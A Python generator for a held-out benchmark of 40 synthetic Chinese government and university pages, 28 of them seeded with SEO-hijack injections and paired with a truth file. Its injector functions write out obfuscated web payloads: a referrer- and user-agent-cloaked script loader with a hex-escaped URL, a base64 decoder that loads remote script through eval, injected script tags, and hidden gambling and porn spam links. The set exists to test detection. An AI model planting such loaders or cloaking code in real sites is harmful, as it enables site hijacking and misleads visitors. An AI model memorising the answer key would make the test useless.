"""Held-out v2 synthetic gov/edu pages (written by the keeper; independent of synthetic-generator-v1).

Usage: python make_set.py OUT_DIR      (fixed seed: the same files every run)

Six CMS-like templates (T1..T6, below), 40 pages: 28 hijacked with injection forms modelled on real ones
found for real-cases-v2 (each form's source is in the comment above its function), 12 clean (four of them
about lotteries / anti-gambling work, which must not be flagged). Brands are invented here by the
morphology seen in the wild (X体育, X国际+year, Latin+digits, Latin/CJK mixes, digits+brand+greeting).
Truth: title (the article's own headline), date (the article's own date), source (来源 / 发布机构),
author, text (article body incl. a notice's 落款 signature block; no boilerplate), spam_strings.
"""
import html
import json
import os
import random
import sys

SEED = 20261202
R = random.Random(SEED)
E = html.escape

# ------------------------------------------------------------------ vocabulary
SURN = list("王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹彭曾萧田董袁潘蒋蔡余杜叶程魏苏吕丁任沈姚卢姜崔钟谭陆汪范金石廖贾夏韦付方白邹孟熊秦邱江尹薛阎段雷侯龙史陶黎贺顾毛郝龚邵万钱严覃武戴莫孔向汤")
GIVEN = list("伟芳娜敏静丽强磊军洋勇艳杰娟涛明超秀霞平刚桂英华玉兰萍建红志文辉鹏宇晨欣怡浩然子涵雨婷佳琪思远嘉")
def name():
    return R.choice(SURN) + "".join(R.choice(GIVEN) for _ in range(R.choice((1, 2))))

COUNTIES = ["青岚县", "石泉县", "临川区", "白河县", "安平县", "南溪区", "柳江县", "云和县", "东源县", "平阳县"]
TOWNS = ["桃源镇", "河口镇", "新塘镇", "金山乡", "双溪镇", "龙泉街道", "马坝镇", "三江镇"]
UNIS = ["江城理工学院", "北陵师范大学", "海东职业技术学院", "西岭农业大学", "南湖医学院", "中原财经学院", "东岳科技大学"]
SCHOOLS = ["机械工程学院", "外国语学院", "马克思主义学院", "经济管理学院", "体育学院", "信息工程学院", "化学与材料学院"]
DEPTS = ["党委宣传部", "教务处", "学生工作处", "科研处", "团委", "保卫处", "招生就业处"]
BUREAUS = ["教育局", "财政局", "体育局", "民政局", "农业农村局", "卫生健康局", "文化和旅游局", "公安局"]

# invented brands (morphology only; none is taken from any corpus)
BRAND_CJK = ["澜庭", "汇岳", "铂宴", "玖隆", "恒沙", "金穗", "星澜", "御峰", "瑞博", "鼎跃", "凯乐", "盛驰"]
SUFFIX = ["体育", "国际", "娱乐", "官网", "平台", "棋牌", "电子"]
def brand():
    k = R.random()
    if k < 0.35:
        return R.choice(BRAND_CJK) + R.choice(SUFFIX[:3])                       # X体育 / X国际 / X娱乐
    if k < 0.55:
        return R.choice(BRAND_CJK) + "国际" + str(R.choice((1946, 1988, 1996, 2008)))  # X国际+year
    if k < 0.75:
        return R.choice(["vb", "qg", "hth", "ob", "tz", "mx", "bk"]) + str(R.randint(100, 9999)) + R.choice(["体育", "", "com"])  # Latin+digits
    if k < 0.9:
        return R.choice(["Lux", "Vega", "Rio", "Nova", "Kin"]) + R.choice(BRAND_CJK) + R.choice(["平台", "体育"])  # Latin/CJK mix
    return str(R.randint(10000, 99999)) + R.choice(BRAND_CJK) + "欢迎您"        # digits+brand+greeting
PORN = ["国产精品无码专区", "亚洲日韩一区二区在线", "午夜福利视频免费看", "成人影视在线观看", "久久精品人妻中文字幕"]
PROMO = ["官方网站", "app下载", "注册开户", "登录入口", "最新网址", "信誉平台"]

def date():
    y = R.choice((2019, 2020, 2021, 2022, 2023, 2024, 2025))
    return f"{y}-{R.randint(1, 12):02d}-{R.randint(1, 28):02d}"
def cn_date(d):
    y, m, dd = d.split("-")
    return f"{y}年{int(m)}月{int(dd)}日"

# ------------------------------------------------------------------ articles
def art_meeting(org):
    n1, n2, n3 = name(), name(), name()
    room = f"{R.choice(['行政楼', '综合楼', '办公楼'])}{R.randint(2, 6)}0{R.randint(1, 9)}会议室"
    topic = R.choice(["意识形态工作", "安全生产工作", "年度重点工作推进", "作风建设", "乡村振兴工作"])
    title = f"{org}召开{topic}专题会议"
    paras = [f"近日,{org}在{room}召开{topic}专题会议。{n1}主持会议,各科室、各单位负责人参加会议。",
             f"会议传达学习了上级有关文件精神,通报了前一阶段{topic}开展情况,分析了存在的问题和薄弱环节,对下一阶段工作进行了安排部署。",
             f"{n2}在讲话中指出,要进一步提高思想认识,压实工作责任,细化工作措施,确保各项任务按时保质完成。要坚持问题导向,建立工作台账,逐项抓好整改落实。",
             f"会议要求,各单位要加强统筹协调,形成工作合力,定期报送工作进展,{n3}等同志就分管领域工作作了补充发言。"]
    return title, paras

def art_lecture(org):
    n1, n2 = name(), name()
    subj = R.choice(["人工智能与教育变革", "青年学生心理健康", "科研诚信与学术规范", "大学生职业生涯规划", "中华优秀传统文化"])
    title = f"{org}举办“{subj}”专题讲座"
    paras = [f"为拓宽师生学术视野,{org}邀请{n1}教授作题为“{subj}”的专题讲座,讲座由{n2}主持,二百余名师生到场聆听。",
             f"{n1}结合多年研究经历,从理论背景、发展现状和实践案例三个方面展开讲解,内容深入浅出,引发在场师生的强烈共鸣。",
             "互动环节,同学们踊跃提问,主讲人一一作了耐心解答。大家纷纷表示,讲座内容丰富、启发性强,对今后的学习和研究很有帮助。",
             "此次讲座是学院“名师讲堂”系列活动之一,学院将持续邀请校内外专家学者开展学术交流,营造浓厚的学术氛围。"]
    return title, paras

def art_sports(org):
    n1 = name()
    ev = R.choice(["春季田径运动会", "教职工篮球赛", "新生拔河比赛", "趣味运动会", "健步走活动"])
    title = f"{org}{ev}圆满落幕"
    paras = [f"{R.randint(3, 11)}月{R.randint(1, 28)}日,{org}{ev}在{R.choice(['东区田径场', '体育馆', '西操场'])}举行。全体师生积极参与,赛场气氛热烈。",
             f"本次比赛共设{R.randint(8, 20)}个项目,参赛队员发扬顽强拼搏、团结协作的精神,赛出了风格、赛出了水平。",
             f"经过激烈角逐,{R.choice(SCHOOLS)}代表队获得团体总分第一名。{n1}为获奖队伍颁奖,并勉励大家坚持锻炼、强健体魄。"]
    return title, paras

def art_lottery(org):
    yr = R.choice((2022, 2023, 2024))
    amt = R.randint(300, 1800) + R.randint(0, 99) / 100
    title = f"关于{yr}年度体育彩票公益金使用情况的公告"
    paras = [f"根据《彩票管理条例》《彩票公益金管理办法》有关规定,现将{org}{yr}年度体育彩票公益金使用情况公告如下:",
             f"{yr}年度,{org}使用体育彩票公益金{amt:.2f}万元,主要用于全民健身场地设施建设、群众性体育赛事活动、青少年体育培训和国民体质监测等项目。",
             "公益金使用严格执行专款专用制度,项目实施情况良好,有效改善了群众健身条件,受到广大群众欢迎。",
             "特此公告。"]
    return title, paras

def art_antigambling(org):
    n1 = name()
    title = f"{org}开展防范网络赌博宣传教育活动"
    paras = [f"为增强群众识赌、防赌、拒赌意识,{org}近日组织开展防范网络赌博宣传教育活动。",
             f"活动中,工作人员通过发放宣传资料、讲解典型案例等方式,揭露网络赌博“十赌九输”、诱骗参赌的本质,提醒群众不下载来路不明的赌博软件,不出租出借银行卡和手机卡。",
             f"{n1}介绍,跨境网络赌博常以“高赔率”“稳赚不赔”为诱饵,参与者往往血本无归,甚至因提供账户而触犯法律。",
             "下一步,将持续深化宣传,营造全社会共同抵制赌博违法犯罪的良好氛围。"]
    return title, paras

def art_notice(org):
    d = R.choice(["2024年春季学期", "2023年秋季学期", "2025年暑期"])
    title = f"关于做好{d}安全检查工作的通知"
    paras = ["各学院、各部门:",
             f"为切实做好{d}校园安全工作,保障师生生命财产安全,经研究,决定开展安全检查工作。现将有关事项通知如下:",
             "一、检查内容。重点检查实验室危险化学品管理、消防设施完好情况、学生宿舍用电安全及食堂食品安全。",
             "二、工作要求。各单位要高度重视,认真组织自查,建立问题清单,限期整改到位,并于规定时间内将自查报告报送保卫处。"]
    return title, paras

def art_survey(org):
    n1, n2 = name(), name()
    town = R.choice(TOWNS)
    what = R.choice(["高标准农田建设", "防汛备汛工作", "重点项目建设", "农村人居环境整治", "安全生产"])
    title = f"{n1}到{town}调研{what}"
    paras = [f"{R.randint(1, 12)}月{R.randint(1, 28)}日,{org}负责人{n1}带队到{town}调研{what},{n2}陪同调研。",
             f"{n1}一行深入项目现场,实地察看工作进展,听取{town}关于{what}情况的汇报,详细了解存在的困难和问题。",
             f"{n1}强调,要坚持高标准、严要求,倒排工期、挂图作战,确保{what}取得实效;要加强部门协作,及时协调解决推进中的难点问题。"]
    return title, paras

ARTS_EDU = [art_meeting, art_lecture, art_sports, art_notice]
ARTS_GOV = [art_meeting, art_survey]

# ------------------------------------------------------------------ injections (each modelled on a real form)
# Every injector returns (head_html, top_html, title_override, body_transform, spam_strings, injection_names).

def inj_spam_title(ctx):
    # Source: real-cases-v2 captures of a news mirror and a Taiwan.cn mirror whose <title> is a porn keyword
    # string joined by '_' or '-' while the headline stays intact (muzhuzai.net, hxdzsz.com).
    ks = R.sample(PORN, 3)
    t = R.choice(("_", "-")).join(ks)
    return "", "", t, None, ks, ["spam_title"]

def inj_brand_substitution(ctx):
    # Source: VSB/WebPlus mirror pages in real-cases-v2 where the school's name is replaced by a brand in
    # several sentences (syxmtr.cn, lokatse.com, stroy-terra.com, tosspage.com).
    b = ctx["brand"]
    org = ctx["org"]
    def tf(paras):
        return [p.replace(org, b) for p in paras]
    return "", "", None, tf, [b], ["body_brand_substitution"]

def inj_banner_breadcrumb(ctx):
    # Source: yikangsx.com / web2soft.com / edouardpf.com: welcome banner '欢迎访问X(中国)!' and the
    # breadcrumb root replaced by the brand; the <title> becomes the brand too.
    b = ctx["brand"]
    top = f'<div class="welcome">欢迎访问{E(b)}(中国)!</div>'
    ctx["crumb_root"] = b
    return "", top, f"{b}(中国)", None, [b], ["welcome_banner", "spam_breadcrumb", "spam_title"]

def inj_title_prefix_keywords(ctx):
    # Source: gambling content farms oubaoho.com and jiuyou-vip3.com: '<brand> - 官方<promo>' prefixed to the
    # title and a comma-separated brand keyword line glued before the first paragraph.
    b = ctx["brand"]
    pre = f"{b}- {b}{R.choice(PROMO)}- "
    kw = ",".join([b, b + "app", b + "官网", b + R.choice(PROMO), R.choice(["真人", "棋牌", "电竞"]) + "下注平台"])
    ctx["h1_prefix"] = pre
    def tf(paras):
        return [kw + paras[0]] + paras[1:]
    return f'<meta name="keywords" content="{E(kw)}">', "", pre + ctx["title"], tf, [b, "下注平台"], ["spam_title_prefix", "keyword_line_in_body", "meta_keywords"]

def inj_emoji_brand(ctx):
    # Source: m.xrs5.cn and web.witique.com (real-cases-v2): emoji inserted after clauses, plus a brand
    # replacing the school name. Not for GBK templates (emoji are not in GBK).
    b = ctx["brand"]
    org = ctx["org"]
    em = ["🧬", "🥊", "🔆", "🛌🏽", "🤹🏿", "🟣", "☎️", "🎡"]
    def tf(paras):
        out = []
        for p in paras:
            p = p.replace(org, b)
            out.append("".join(ch + (R.choice(em) if ch in ",。" and R.random() < 0.5 else "") for ch in p))
        return out
    return "", "", None, tf, [b], ["emoji_stuffing", "body_brand_substitution"]

def inj_script_in_title(ctx):
    # Source: GitHub issue magicblack/maccms8#7: '<script/**/src=…>' appended (twice) to every title field.
    u = f"https://{R.choice(['cdn', 'img', 'static'])}.{R.choice(['kq', 'zx', 'vb'])}{R.randint(10, 99)}.cc/uploads/ver.txt"
    s = f"<script/**/src={u}>" * 2
    return "", "", E(ctx["title"]) + s, None, [u.split("/")[2], "<script"], ["script_tag_in_title"]

def inj_cloak_redirect(ctx):
    # Source: GitHub issue magicblack/maccms10#985 (described behaviour): mobile UA, search-engine referrer,
    # hour-of-day probabilities, visit counter; target URL hidden as \x escapes. No visible text.
    url = f"https://{R.choice(['push', 'tj', 'hm'])}.{R.choice(['bdstatic-cdn', 'baidu-tongji', 'sogou-img'])}.com/{R.choice(['push', 'hm', 'count'])}.js"
    hx = "".join("\\x%02x" % ord(c) for c in url)
    js = ("<script>(function(){var u=navigator.userAgent.toLowerCase();if(!/iphone|android|mobile/.test(u))return;"
          "var r=document.referrer;if(!/baidu|sogou|so\\.com|sm\\.cn/.test(r))return;"
          "var p=[.1,.1,.1,.1,.1,.1,.2,.3,.5,.5,.5,.4,.6,.6,.5,.5,.5,.6,.8,.9,.9,.9,.7,.3];"
          "if(Math.random()>p[new Date().getHours()])return;var s=document.createElement('script');"
          f"s.src='{hx}';document.body.appendChild(s);}})();</script>")
    ctx["body_end"] = js
    return "", "", None, None, [], ["js_cloak_referrer_ua", "hex_escaped_url"]

def inj_base64_loader(ctx):
    # Source: GitHub issue magicblack/maccms10#1295: base64 URL decoded by a hand-written decoder and loaded by
    # eval('window')['\x..'] (written afresh here; URL invented).
    import base64
    url = f"https://code.{R.choice(['jq-cdn', 'libcdn', 'staticfile-x'])}.net/{R.choice(['jquery', 'flex', 'main'])}.min.js"
    b = base64.b64encode(url.encode()).decode()
    js = ("<script>function d0(e){var m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=',t='',f=0,s,o,u,a;"
          "e=e.replace(/[^A-Za-z0-9+/=]/g,'');while(f<e.length){s=m.indexOf(e.charAt(f++));o=m.indexOf(e.charAt(f++));"
          "u=m.indexOf(e.charAt(f++));a=m.indexOf(e.charAt(f++));t+=String.fromCharCode(s<<2|o>>4);"
          "if(u!=64)t+=String.fromCharCode((o&15)<<4|u>>2);if(a!=64)t+=String.fromCharCode((u&3)<<6|a)}return t}"
          "eval('window')['\\x6b\\x51\\x7a'] = function(){var s=document['\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6c\\x65\\x6d\\x65\\x6e\\x74']('script');"
          f"s.src=d0('{b}');document.getElementsByTagName('head')[0].appendChild(s)}};window['\\x6b\\x51\\x7a']();</script>")
    return js, "", None, None, [], ["base64_loader", "eval_window_bracket", "hex_property_name"]

def inj_hidden_links(ctx):
    # Source: GitHub issue magicblack/maccms10#1138 ('频繁被黑挂黑链', hidden spam links inserted into pages);
    # anchors built from invented brands with promo words.
    bs = [ctx["brand"]] + [brand() for _ in range(3)]
    anchors = "".join(f'<a href="https://{R.choice(["www.", "m.", ""])}{R.choice(["k", "v", "q"])}{R.randint(100, 999)}.com/">{E(x + R.choice(PROMO))}</a>' for x in bs)
    style = R.choice(['style="display:none"', 'style="position:absolute;left:-9999px;top:-9999px"', 'style="height:0;overflow:hidden"'])
    ctx["body_end"] = f'<div {style}>{anchors}</div>'
    return "", "", None, None, bs, ["hidden_link_block"]

def inj_docwrite_links(ctx):
    # Source: same black-link write-up (maccms10#1138) combined with the \x escaping of maccms10#985:
    # the link block is written by document.write from an escaped string.
    b = ctx["brand"]
    block = f'<div style="display:none"><a href="https://{R.randint(100, 999)}{R.choice(["bet", "vip", "tz"])}.com/">{b}{R.choice(PROMO)}</a></div>'
    hx = "".join("\\u%04x" % ord(c) for c in block)
    ctx["body_end"] = f'<script>document.write("{hx}");</script>'
    return "", "", None, None, [b], ["docwrite_hidden_links", "unicode_escaped_string"]

def inj_title_echo(ctx):
    # Source: lsqhjgt.com (real-cases-v2): brand prefixed to the headline and to a copy of it glued at the
    # start of the body text.
    b = ctx["brand"]
    ctx["h1_prefix"] = b
    def tf(paras):
        return [b + ctx["title"] + paras[0]] + paras[1:]
    return "", "", b + ctx["title"], tf, [b], ["spam_title_prefix", "title_echo_in_body"]

def inj_nav_lines(ctx):
    # Source: m.ljsymk.com (real-cases-v2): '<brand>首页' / '<brand>网站xml地图' lines above the breadcrumb.
    b = ctx["brand"]
    top = f'<div class="topnav"><a href="/">{E(b)}首页</a> <a href="/sitemap.xml">{E(b)}网站xml地图</a></div>'
    return "", top, f"{b}首页", None, [b], ["spam_nav_lines", "spam_title"]

def inj_contact_block(ctx):
    # Source: oubaoho.com (real-cases-v2): contact block whose phone/mail/address fields all hold the
    # gambling domain, inserted in the sidebar.
    dom = f"{R.randint(100000, 999999)}.com"
    b = ctx["brand"]
    ctx["side_extra"] = [f"电话:{dom}", f"邮箱:{dom}", f"地址:{b}永久网址【{dom}】"]
    return "", "", None, None, [dom, b], ["spam_contact_block"]

INJ_GBK_OK = [inj_spam_title, inj_brand_substitution, inj_banner_breadcrumb, inj_title_prefix_keywords, inj_script_in_title,
              inj_cloak_redirect, inj_base64_loader, inj_hidden_links, inj_docwrite_links, inj_title_echo, inj_nav_lines,
              inj_contact_block]
INJ_ALL = INJ_GBK_OK + [inj_emoji_brand]
PAIRS = [(inj_cloak_redirect, inj_spam_title), (inj_hidden_links, inj_brand_substitution), (inj_base64_loader, inj_title_echo)]

# ------------------------------------------------------------------ templates
DISCLAIMER = "凡本网注明“来源:{site}”的所有文字、图片和音视频稿件,版权均属本网所有,任何媒体、网站或个人未经本网协议授权不得转载、链接、转贴或以其他方式复制发表。"

def related(n=4):
    return [(f"{R.choice(['我院', '我校', '我县', '我局'])}{R.choice(['召开', '举办', '开展', '组织'])}{R.choice(['专题会议', '主题党日活动', '安全培训', '技能竞赛', '志愿服务'])}", date()) for _ in range(n)]

def t1_gov_table(c):
    """T1: ASP-era table layout, GBK, 信息公开 metadata table (发布机构 = source, 发文日期 = date), 落款."""
    meta = (f'<table class="xxgk" border="1" cellspacing="0"><tr><td>索引号:</td><td>{c["index"]}</td><td>主题分类:</td><td>其他</td></tr>'
            f'<tr><td>发布机构:</td><td>{E(c["source"])}</td><td>发文日期:</td><td>{c["date"]}</td></tr>'
            f'<tr><td>文号:</td><td>{c["docno"]}</td><td>有效性:</td><td>有效</td></tr></table>')
    side = "".join(f'<tr><td><a href="#">{E(t)}</a></td><td>{d}</td></tr>' for t, d in c["related"])
    body = "".join(f"<p>{E(p)}</p>" for p in c["paras"])
    sig = "".join(f'<p align="right">{E(x)}</p>' for x in c["sign"])
    return (f'<table width="980" align="center"><tr><td colspan="2" class="banner">{E(c["site_name"])}</td></tr>'
            f'<tr><td width="240" valign="top"><table class="side">{"".join(f"<tr><td>{E(x)}</td></tr>" for x in c["side"])}'
            f'<tr><td>最新更新</td></tr>{side}</table></td><td valign="top">'
            f'<table width="100%"><tr><td class="crumb">{E(c["crumb"])}</td></tr><tr><td>{meta}</td></tr>'
            f'<tr><td class="title" align="center"><b>{E(c["h1"])}</b></td></tr>'
            f'<tr><td id="zoom">{body}{sig}</td></tr>'
            f'<tr><td>【<a href="javascript:window.print()">打印本页</a>】【<a href="javascript:window.close()">关闭窗口</a>】</td></tr></table>'
            f'</td></tr><tr><td colspan="2" class="foot">主办:{E(c["site_name"])} 网站标识码:{c["wzbs"]} 更新时间:{c["updated"]}</td></tr></table>')

def t2_edu_div(c):
    """T2: div layout, breadcrumb, h2 headline, one info line with several fields, 上一篇/下一篇, disclaimer."""
    info = f'发布时间:{c["date"]}&nbsp;&nbsp;作者:{E(c["author"] or "")}&nbsp;&nbsp;来源:{E(c["source"] or "")}&nbsp;&nbsp;点击:<span id="hits">{R.randint(50, 3000)}</span>'
    rel = "".join(f'<li><a href="#">{E(t)}</a><span>{d}</span></li>' for t, d in c["related"])
    return (f'<div class="header"><div class="logo">{E(c["site_name"])}</div><ul class="menu">{"".join(f"<li>{E(x)}</li>" for x in c["side"])}</ul></div>'
            f'<div class="location">当前位置:<a href="/">{E(c["crumb_root"])}</a> &gt; 学院新闻 &gt; 正文</div>'
            f'<div class="article"><h2 class="arti-title">{E(c["h1"])}</h2><div class="arti-info">{info}</div>'
            f'<div class="v_news_content">{"".join(f"<p>{E(p)}</p>" for p in c["paras"])}{"".join(f"<p>{E(x)}</p>" for x in c["sign"])}</div>'
            f'<div class="pages"><p>上一篇:<a href="#">{E(c["related"][0][0])}</a></p><p>下一篇:<a href="#">{E(c["related"][1][0])}</a></p></div></div>'
            f'<div class="related"><h3>相关新闻</h3><ul>{rel}</ul></div>'
            f'<div class="footer"><p>{E(DISCLAIMER.format(site=c["site_name"]))}</p><p>Copyright © {c["site_name"]} 版权所有</p></div>')

def t3_h1_meta_inside(c):
    """T3: headline element that also holds the date and the byline: <h1>标题 <span>日期 来源:…</span></h1>."""
    return (f'<div class="top">{E(c["site_name"])}</div><div class="nav">{" | ".join(E(x) for x in c["side"])}</div>'
            f'<div class="crumb">{E(c["crumb"])}</div>'
            f'<div class="news"><h1>{E(c["h1"])} <span class="sub">{c["date"]} {R.randint(8, 18):02d}:{R.randint(0, 59):02d} 来源:{E(c["source"] or "")}</span></h1>'
            f'<div class="txt">{"".join(f"<p>{E(p)}</p>" for p in c["paras"] + c["sign"])}</div>'
            + (f'<div class="editor">(责任编辑:{E(c["author"])})</div>' if c["author"] else "")
            + f'<div class="share">分享到:微信 微博 QQ空间</div></div><div class="foot">{E(c["site_name"])} 版权所有</div>')

def t4_portal_byline(c):
    """T4: meta tags (PubDate, ContentSource, author), one byline line with empty labelled fields, print/close."""
    by = f'来源:{E(c["source"] or "")} 作者:{E(c["author"] or "")} 编辑:{E(c["editor"])} 发布日期:{c["date"].replace("-", "/")}'
    return (f'<div id="head">{E(c["site_name"])}</div><div id="crumbs">{E(c["crumb"])}</div>'
            f'<div id="main"><div class="detail-title">{E(c["h1"])}</div><div class="byline">{by}</div>'
            f'<div id="detail">{"".join(f"<p>{E(p)}</p>" for p in c["paras"] + c["sign"])}</div>'
            f'<div class="tools">[打印] [关闭] [收藏]</div>'
            f'<div class="xgyd"><h4>相关阅读</h4>{"".join(f"<p>{E(t)} {d}</p>" for t, d in c["related"])}</div></div>'
            f'<div id="footer">网站地图 | 联系我们 | {E(c["site_name"])}</div>')

def t5_school_notice(c):
    """T5: notice with greeting line, attachments list and a right-aligned 落款; footer 'updated' stamp."""
    att = "".join(f'<li><a href="/upload/{i}.docx">附件{i}:{E(x)}</a></li>' for i, x in enumerate(c["attach"], 1))
    sign = "".join('<p style="text-align:right">' + E(x) + "</p>" for x in c["sign"])
    return (f'<div class="wrap"><div class="head">{E(c["site_name"])}</div><div class="pos">{E(c["crumb"])}</div>'
            f'<div class="ntitle"><h1>{E(c["h1"])}</h1></div><div class="ninfo">发布部门:{E(c["source"] or "")} 发布日期:{c["date"]} 浏览:{R.randint(10, 900)}次</div>'
            f'<div class="ncontent">{"".join(f"<p>{E(p)}</p>" for p in c["paras"])}<ul class="attach">{att}</ul>'
            f'{sign}</div>'
            f'<div class="nfoot">本页更新时间:{c["updated"]}</div></div>')

def t6_county_dl(c):
    """T6: 政务公开 page with a dl/dt/dd metadata block, h1 inside .xxgk-title, '相关阅读' list."""
    sign = "".join('<p class="lk">' + E(x) + "</p>" for x in c["sign"])
    dl = (f'<dl class="gkxx"><dt>索引号</dt><dd>{c["index"]}</dd><dt>发布机构</dt><dd>{E(c["source"])}</dd>'
          f'<dt>成文日期</dt><dd>{cn_date(c["date"])}</dd><dt>发布日期</dt><dd>{c["date"]}</dd><dt>文号</dt><dd></dd></dl>')
    return (f'<header>{E(c["site_name"])}</header><nav>{"".join(f"<a>{E(x)}</a>" for x in c["side"])}</nav>'
            f'<div class="bread">{E(c["crumb"])}</div><section class="zwgk">{dl}<div class="xxgk-title"><h1>{E(c["h1"])}</h1></div>'
            f'<div class="zw">{"".join(f"<p>{E(p)}</p>" for p in c["paras"])}{sign}</div></section>'
            f'<aside><h3>相关阅读</h3>{"".join(f"<div>{E(t)}<i>{d}</i></div>" for t, d in c["related"])}</aside>'
            f'<footer>{E(c["site_name"])}主办 网站标识码:{c["wzbs"]}</footer>')

TEMPLATES = [("T1", t1_gov_table, "gov"), ("T2", t2_edu_div, "edu"), ("T3", t3_h1_meta_inside, "gov"),
             ("T4", t4_portal_byline, "edu"), ("T5", t5_school_notice, "edu"), ("T6", t6_county_dl, "gov")]

# ------------------------------------------------------------------ page assembly
def make_case(i, tpl, hijack, topic=None):
    tname, fn, kind = tpl
    if topic in (art_lottery, art_antigambling):
        kind = "gov"                              # lottery funds and anti-gambling work are government news
    gbk = tname == "T1"
    if kind == "gov":
        county = R.choice(COUNTIES)
        org = R.choice([county + "人民政府", county + R.choice(BUREAUS)])
        site_name = county + "人民政府门户网站"
        source = org
        side = ["首页", "政务公开", "政务服务", "互动交流", "走进" + county]
        crumb = "您现在的位置:首页 > 政务公开 > 工作动态"
    else:
        uni = R.choice(UNIS)
        sch = R.choice(SCHOOLS)
        org = R.choice([uni, sch])
        site_name = (sch + "-" if org == sch else "") + uni
        source = R.choice([R.choice(DEPTS), sch, None])
        side = ["首页", "学院概况", "新闻中心", "教学科研", "党建工作", "学生工作"]
        crumb = "当前位置:首页 > 新闻中心 > 学院新闻"
    art = topic or R.choice(ARTS_GOV if kind == "gov" else ARTS_EDU)
    title, paras = art(org)
    d = date()
    c = dict(org=org, title=title, paras=list(paras), date=d, source=source, site_name=site_name, side=side, crumb=crumb,
             crumb_root="首页", h1=title, related=related(), index=f"{R.randint(100000, 999999)}/{d[:4]}-{R.randint(10, 999):05d}",
             docno=f"{org[:2]}发〔{d[:4]}〕{R.randint(1, 60)}号", wzbs=str(R.randint(10 ** 9, 10 ** 10 - 1)),
             updated=date(), editor=name(), author=None, sign=[], attach=[])
    if tname in ("T2", "T3", "T4"):
        k = R.random()
        c["author"] = None if k < 0.25 else (name() + " " + name() if k < 0.45 else name())
    if tname == "T4" and R.random() < 0.4:
        c["source"] = None           # empty labelled field: '来源:' with no value
    if art is art_notice or tname in ("T1", "T5", "T6") and art in (art_notice, art_lottery):
        c["sign"] = [org, cn_date(d)]
    if tname == "T5":
        c["attach"] = [R.choice(["安全检查自查表.docx", "报名汇总表.xlsx", "工作任务分解表.docx"])]
        if not c["sign"]:
            c["sign"] = [c["source"] or org, cn_date(d)]
        c["source"] = c["source"] or org
    if tname in ("T1", "T6") and not c["source"]:
        c["source"] = org
    c["brand"] = brand()
    spam, injections, head, top = [], [], "", ""
    title_tag = E(title)
    if hijack:
        pair = None
        if i % 7 == 3:
            pair = PAIRS[(i // 7) % len(PAIRS)]
        funcs = list(pair) if pair else [R.choice(INJ_GBK_OK if gbk else INJ_ALL)]
        for f in funcs:
            h, t, tov, tf, ss, names = f(c)
            head += h
            top += t
            if tov is not None:
                title_tag = tov if f is inj_script_in_title else E(tov)
            if tf:
                c["paras_served"] = tf(c.get("paras_served", c["paras"]))
            spam += ss
            injections += names
    served = dict(c)
    served["paras"] = c.get("paras_served", c["paras"])
    served["h1"] = c.get("h1_prefix", "") + title
    side = list(c["side"]) + c.get("side_extra", [])
    served["side"] = side
    if c["crumb_root"] != "首页":
        served["crumb"] = c["crumb"].replace("首页", c["crumb_root"], 1)
    body = fn(served)
    charset = "gbk" if gbk else "utf-8"
    declare = not (gbk and i in (13, 25))    # two GBK pages declare no charset at all
    page = ("<!DOCTYPE html>\n<html>\n<head>\n" + (f'<meta http-equiv="Content-Type" content="text/html; charset={charset}">\n' if declare else "")
            + f"<title>{title_tag}</title>\n"
            + (f'<meta name="PubDate" content="{d} {R.randint(8, 18):02d}:00">\n<meta name="ContentSource" content="{E(c["source"] or "")}">\n'
               + (f'<meta name="author" content="{E(c["author"])}">\n' if c["author"] else "") if tname == "T4" else "")
            + head + "\n</head>\n<body>\n" + top + body + c.get("body_end", "") + "\n</body>\n</html>\n")
    text = "\n".join(c["paras"] + c["sign"])
    truth = dict(id=f"syn2-{i:03d}", url=None, encoding=charset if declare else "gbk", lang="zh", title=title, date=d,
                 source=c["source"], author=c["author"], text=text, hijacked=bool(hijack), injections=injections,
                 spam_strings=sorted(set(spam)), legit=bool(not hijack and topic in (art_lottery, art_antigambling)), origin="synthetic-generator-v2 (make_set.py, seed %d)" % SEED,
                 kind=f"synthetic-{tname}", site=c["site_name"], charset_declared=declare)
    return page.encode("gbk" if gbk else "utf-8"), truth

def main(out):
    os.makedirs(os.path.join(out, "html"), exist_ok=True)
    plan = []
    for i in range(1, 41):
        tpl = TEMPLATES[(i - 1) % len(TEMPLATES)]
        hijack = i % 10 not in (1, 4, 7)          # 28 hijacked, 12 clean
        topic = None
        if not hijack and i in (4, 17, 24, 31):
            topic = art_lottery if i in (4, 24) else art_antigambling
        if hijack and i in (12, 35):
            topic = art_lottery                  # hijacked pages whose own article is about lotteries
        plan.append((i, tpl, hijack, topic))
    rows = []
    for i, tpl, hijack, topic in plan:
        page, truth = make_case(i, tpl, hijack, topic)
        if truth["hijacked"] and not truth["spam_strings"] and not any(
                x in truth["injections"] for x in ("js_cloak_referrer_ua", "base64_loader")):
            raise SystemExit(f"case {i}: hijacked without evidence")
        with open(os.path.join(out, "html", truth["id"] + ".html"), "wb") as f:
            f.write(page)
        rows.append(truth)
    with open(os.path.join(out, "truth.jsonl"), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(len(rows), "pages,", sum(r["hijacked"] for r in rows), "hijacked")

if __name__ == "__main__":
    main(sys.argv[1])
